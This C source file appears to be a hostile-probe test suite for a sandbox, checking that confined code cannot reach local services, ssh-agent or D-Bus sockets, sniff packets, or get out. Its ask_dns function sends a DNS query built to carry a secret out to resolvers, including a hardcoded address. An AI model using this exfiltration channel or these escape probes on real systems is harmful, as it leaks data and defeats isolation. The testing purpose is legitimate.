/* Attacks by socket: the machine's services, other hosts, the network's own layers. */
#include "tests/jail/hostile/hostile.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_alg.h>
#include <linux/if_ether.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <poll.h>
#include <sched.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

/* Connects and reads what the other side says first. Takes fd over. */
static const char *hear(int fd, const void *address, socklen_t len)
{
	static char words[256];
	struct timeval patience = {.tv_sec = 2};

	if (fd < 0)
		return NULL;
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
	ssize_t n = connect(fd, address, len) < 0 ? -1 : read(fd, words, sizeof(words) - 1);
	int saved = errno;
	close(fd);
	errno = saved;
	if (n <= 0)
		return NULL;
	words[n] = '\0';
	return words;
}

static struct sockaddr_in v4(const char *address, int port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};

	inet_pton(AF_INET, address, &a.sin_addr);
	return a;
}

const char *connect_loopback(char **args)
{
	struct sockaddr_in a = v4("127.0.0.1", atoi(args[0]));
	const char *got = hear(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), &a, sizeof(a));

	if (got)
		return got;
	struct sockaddr_in6 six = {.sin6_family = AF_INET6,
		.sin6_port = htons((uint16_t)atoi(args[0])),
		.sin6_addr = IN6ADDR_LOOPBACK_INIT};
	return hear(socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0), &six, sizeof(six));
}

/* args: an abstract name (as X11's and D-Bus's), and a socket in the file system (as an ssh-agent's). */
const char *connect_unix(char **args)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};

	snprintf(a.sun_path + 1, sizeof(a.sun_path) - 1, "%s", args[0]);
	const char *got = hear(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), &a,
		(socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(args[0])));
	if (got)
		return got;
	memset(a.sun_path, 0, sizeof(a.sun_path));
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", args[1]);
	return hear(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), &a, sizeof(a));
}

static size_t question(unsigned char *q, const char *name)
{
	static const unsigned char head[12] = {0x12, 0x34, 1, 0, 0, 1};
	size_t n = strlen(name);

	memcpy(q, head, 12);
	q[12] = (unsigned char)n;
	memcpy(q + 13, name, n);
	memcpy(q + 13 + n, "\7example", 8);
	memcpy(q + 21 + n, "\0\0\1\0\1", 5);
	return 26 + n;
}

/* A name that carries a secret out: to whoever may be the resolver. args: the label. */
const char *ask_dns(char **args)
{
	const char *servers[4] = {"127.0.0.53", "127.0.0.1", "10.213.7.9", NULL};
	static char own[64];
	unsigned char q[512], reply[512];
	size_t len = question(q, args[0]);
	bool any = false;
	FILE *f = fopen("/etc/resolv.conf", "re");

	if (f && fscanf(f, "nameserver %63s", own) == 1)
		servers[3] = own;
	if (f)
		fclose(f);
	for (size_t i = 0; i < 4 && servers[i]; i++) {
		struct sockaddr_in a = v4(servers[i], 53);
		int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		struct pollfd p = {.fd = fd, .events = POLLIN};
		if (fd < 0 || sendto(fd, q, len, 0, (struct sockaddr *)&a, sizeof(a)) < 0)
			continue;
		if (poll(&p, 1, 300) > 0 && recv(fd, reply, sizeof(reply), 0) > 0)
			any = true;
		close(fd);
	}
	return any ? "tried" : NULL;
}

static const char *sniff(int fd, const char *token)
{
	struct pollfd p = {.fd = fd, .events = POLLIN};
	static char packet[2048];

	for (int i = 0; i < 40 && poll(&p, 1, 50) >= 0; i++) {
		ssize_t n = recv(fd, packet, sizeof(packet), MSG_DONTWAIT);
		if (n > 0 && memmem(packet, (size_t)n, token, strlen(token)))
			return token;
	}
	return NULL;
}

/* Others' packets; failing that, a packet socket in a network of one's own, which is a way into the kernel
 * all the same. args: what is in the packets. */
const char *sniff_packets(char **args)
{
	int all = htons(ETH_P_ALL), fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, all), domain = 0;
	socklen_t len = sizeof(domain);
	const char *got = fd >= 0 ? sniff(fd, args[0]) : NULL;

	if (got)
		return got;
	if (fd < 0)
		fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
	if (fd < 0 && become_root(CLONE_NEWNET))
		fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, all);
	if (fd < 0 || getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &len) < 0)
		return NULL;
	return domain == AF_PACKET ? "a packet socket" : "a raw socket";
}

/* args: an address of the machine's. */
const char *list_addresses(char **args)
{
	struct {
		struct nlmsghdr h;
		struct ifaddrmsg m;
	} ask = {.h = {.nlmsg_len = sizeof(ask),
			 .nlmsg_type = RTM_GETADDR,
			 .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
		.m = {.ifa_family = AF_INET}};
	static char answer[65536];
	struct in_addr wanted;
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);

	inet_pton(AF_INET, args[0], &wanted);
	if (fd < 0 || send(fd, &ask, sizeof(ask), 0) < 0)
		return NULL;
	ssize_t n = recv(fd, answer, sizeof(answer), 0);
	errno = 0;
	return n > 0 && memmem(answer, (size_t)n, &wanted, sizeof(wanted)) ? args[0] : NULL;
}

const char *use_af_alg(char **args)
{
	static const unsigned char wanted[4] = {0xba, 0x78, 0x16, 0xbf};
	struct sockaddr_alg a = {.salg_family = AF_ALG, .salg_type = "hash", .salg_name = "sha256"};
	unsigned char digest[32];

	(void)args;
	int fd = socket(AF_ALG, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0)
		return NULL;
	int op = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
	if (op < 0 || send(op, "abc", 3, 0) != 3 || read(op, digest, sizeof(digest)) != sizeof(digest))
		return NULL;
	return memcmp(digest, wanted, 4) == 0 ? "the kernel's sha256" : NULL;
}

const char *open_vsock(char **args)
{
	int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0), domain = 0;
	socklen_t len = sizeof(domain);

	(void)args;
	if (fd < 0 || getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &len) < 0)
		return NULL;
	return domain == AF_VSOCK ? "a socket to the hypervisor" : NULL;
}
